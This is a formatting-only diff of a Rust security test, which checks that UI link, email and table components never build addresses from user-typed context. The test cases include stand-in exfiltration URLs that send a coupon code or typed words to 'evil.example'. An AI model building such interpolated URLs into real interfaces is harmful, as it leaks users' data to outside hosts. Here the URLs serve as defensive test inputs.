@@ -134,7 +134,8 @@ fn the_address_of_a_link_never_comes_from_what_is_typed() {
     let opens = |url: Value| json!({"component":"Button","child":"label","action":{"functionCall":{"call":"openUrl","args":{"url":url}}}});
     let fact = |value: Value, format: &str| json!({"component":"KeyValue","items":[{"label":"x","value":value,"format":format}]});
     let table = |column: Value, source: &str| {
-        let mut table = json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column]});
+        let mut table =
+            json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column]});
         table[source] = json!({"path":"/ui/items"});
         table
     };
@@ -143,9 +144,15 @@ fn the_address_of_a_link_never_comes_from_what_is_typed() {
     let within = json!({"field":"title","label":"T","format":"record","parts":[column("url")]});
     for (component, member) in [
         (opens(json!({"path":"/context/coupon"})), "action"),
-        (opens(call("https://evil.example/?q=${/context/coupon}")), "action"),
+        (
+            opens(call("https://evil.example/?q=${/context/coupon}")),
+            "action",
+        ),
         (fact(json!({"path":"/context/coupon"}), "url"), "items"),
-        (fact(call("a@evil.example?body=${/ui/word}"), "email"), "items"),
+        (
+            fact(call("a@evil.example?body=${/ui/word}"), "email"),
+            "items",
+        ),
         (table(column("url"), "rows"), "columns"),
         (table(column("email"), "rows"), "columns"),
         (table(column("image"), "changes"), "columns"),
@@ -171,7 +178,11 @@ fn the_address_of_a_link_never_comes_from_what_is_typed() {
         json!({"component":"Text","text":call("[x](https://shop.example) for ${/context/coupon}")}),
         json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column("url")]}),
     ] {
-        assert_eq!(told(view(component.clone())), Vec::<String>::new(), "{component}");
+        assert_eq!(
+            told(view(component.clone())),
+            Vec::<String>::new(),
+            "{component}"
+        );
     }
 }
 
